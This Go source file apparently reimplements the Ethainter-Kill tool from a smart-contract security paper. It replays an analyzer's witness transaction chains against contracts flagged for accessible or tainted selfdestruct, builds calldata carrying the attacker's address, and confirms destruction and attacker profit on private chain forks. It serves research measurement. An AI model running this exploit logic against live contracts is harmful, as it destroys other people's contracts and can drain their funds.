@@ -1,0 +1,186 @@
+// Package kill implements Ethainter-Kill (Section 6.1): a fully automated
+// exploit tool that reads Ethainter's output, connects to the chain,
+// replays the analysis' witness chain as a sequence of transactions with
+// generated parameters, and confirms destruction from the exact VM
+// instruction trace.
+package kill
+
+import (
+	"ethainter/internal/chain"
+	"ethainter/internal/core"
+	"ethainter/internal/evm"
+	"ethainter/internal/u256"
+)
+
+// Result records one exploit attempt.
+type Result struct {
+	Contract evm.Address
+	// Pinpointed reports whether the analysis provided a public entry chain
+	// to the flagged statement (the paper's 3,003-of-4,800).
+	Pinpointed bool
+	// Destroyed reports whether a SELFDESTRUCT on the target was confirmed
+	// in the instruction trace of a successful attempt.
+	Destroyed bool
+	// Steps is the transaction sequence of the successful attempt.
+	Steps []core.Step
+	// Attempts counts tried transaction sequences.
+	Attempts int
+	// Profit is the balance gained by the attacker account, if any.
+	Profit u256.U256
+}
+
+// Killer attacks flagged contracts on forks of the given chain.
+type Killer struct {
+	Chain *chain.Chain
+	// Funds is the balance given to the attacker account on each fork.
+	Funds u256.U256
+	// MaxAttempts bounds the argument variants tried per contract.
+	MaxAttempts int
+}
+
+// New returns a Killer with sensible defaults.
+func New(c *chain.Chain) *Killer {
+	return &Killer{Chain: c, Funds: u256.FromUint64(1_000_000), MaxAttempts: 6}
+}
+
+// killable are the vulnerability kinds Ethainter-Kill knows how to exploit —
+// per the paper, "accessible selfdestruct" and, to a lesser extent, "tainted
+// selfdestruct".
+func killable(k core.VulnKind) bool {
+	return k == core.AccessibleSelfdestruct || k == core.TaintedSelfdestruct
+}
+
+// Exploit attempts to destroy the target using the report's witness chains.
+// All attempts run on private forks; the primary chain is never mutated.
+func (k *Killer) Exploit(target evm.Address, report *core.Report) *Result {
+	res := &Result{Contract: target}
+	// Collect candidate witness chains, accessible-selfdestruct first (they
+	// are the directly destroying ones).
+	var plans [][]core.Step
+	for _, kind := range []core.VulnKind{core.AccessibleSelfdestruct, core.TaintedSelfdestruct} {
+		for _, w := range report.ByKind(kind) {
+			if killable(w.Kind) && len(w.Witness) > 0 {
+				plans = append(plans, w.Witness)
+			}
+		}
+	}
+	if len(plans) == 0 {
+		return res
+	}
+	res.Pinpointed = true
+
+	maxAttempts := k.MaxAttempts
+	if maxAttempts <= 0 {
+		maxAttempts = 6
+	}
+	for _, plan := range plans {
+		for _, variant := range argVariants() {
+			if res.Attempts >= maxAttempts {
+				return res
+			}
+			res.Attempts++
+			if steps, profit, ok := k.try(target, plan, variant); ok {
+				res.Destroyed = true
+				res.Steps = steps
+				res.Profit = profit
+				return res
+			}
+		}
+	}
+	return res
+}
+
+// argVariant generates the word arguments for a step.
+type argVariant struct {
+	name  string
+	value u256.U256 // msg.value attached to each call
+	arg   func(attacker evm.Address, i int) u256.U256
+}
+
+func argVariants() []argVariant {
+	return []argVariant{
+		{name: "attacker-args", arg: func(a evm.Address, _ int) u256.U256 { return a.Word() }},
+		{name: "attacker-args+value", value: u256.FromUint64(10_000),
+			arg: func(a evm.Address, _ int) u256.U256 { return a.Word() }},
+		{name: "one-args", arg: func(evm.Address, int) u256.U256 { return u256.One }},
+	}
+}
+
+// try replays the plan on a fork, returning success when the trace shows a
+// SELFDESTRUCT executing on the target.
+func (k *Killer) try(target evm.Address, plan []core.Step, v argVariant) ([]core.Step, u256.U256, bool) {
+	fork := k.Chain.Fork()
+	attacker := fork.NewAccount(k.Funds)
+	before := k.Funds
+	for _, step := range plan {
+		data := make([]byte, 4+32*step.NumArgs)
+		copy(data, step.Selector[:])
+		for i := 0; i < step.NumArgs; i++ {
+			w := v.arg(attacker, i).Bytes32()
+			copy(data[4+32*i:], w[:])
+		}
+		// Per-step value fallback: a payable step may need the variant's
+		// value while a non-payable step rejects any value — try the
+		// variant's choice first, then the alternative.
+		values := []u256.U256{v.value}
+		if !v.value.IsZero() {
+			values = append(values, u256.Zero)
+		} else {
+			values = append(values, u256.FromUint64(10_000))
+		}
+		var r *chain.Receipt
+		for _, val := range values {
+			r = fork.Call(attacker, target, data, val)
+			if r.Err == nil {
+				break
+			}
+		}
+		if r.Err != nil {
+			// Leave failed intermediate steps behind; a later step might
+			// still land.
+			continue
+		}
+		for _, d := range r.Destroyed {
+			if d == target {
+				profit := fork.State.GetBalance(attacker).Sub(before)
+				return plan, profit, true
+			}
+		}
+	}
+	return nil, u256.Zero, false
+}
+
+// Sweep exploits every flagged contract in the map, returning per-contract
+// results plus aggregate counts — the Experiment 1 pipeline.
+func (k *Killer) Sweep(reports map[evm.Address]*core.Report) *SweepStats {
+	stats := &SweepStats{Results: map[evm.Address]*Result{}}
+	for addr, rep := range reports {
+		flagged := false
+		for _, w := range rep.Warnings {
+			if killable(w.Kind) {
+				flagged = true
+			}
+		}
+		if !flagged {
+			continue
+		}
+		stats.Flagged++
+		res := k.Exploit(addr, rep)
+		stats.Results[addr] = res
+		if res.Pinpointed {
+			stats.Pinpointed++
+		}
+		if res.Destroyed {
+			stats.Destroyed++
+		}
+	}
+	return stats
+}
+
+// SweepStats aggregates a kill sweep.
+type SweepStats struct {
+	Flagged    int
+	Pinpointed int
+	Destroyed  int
+	Results    map[evm.Address]*Result
+}
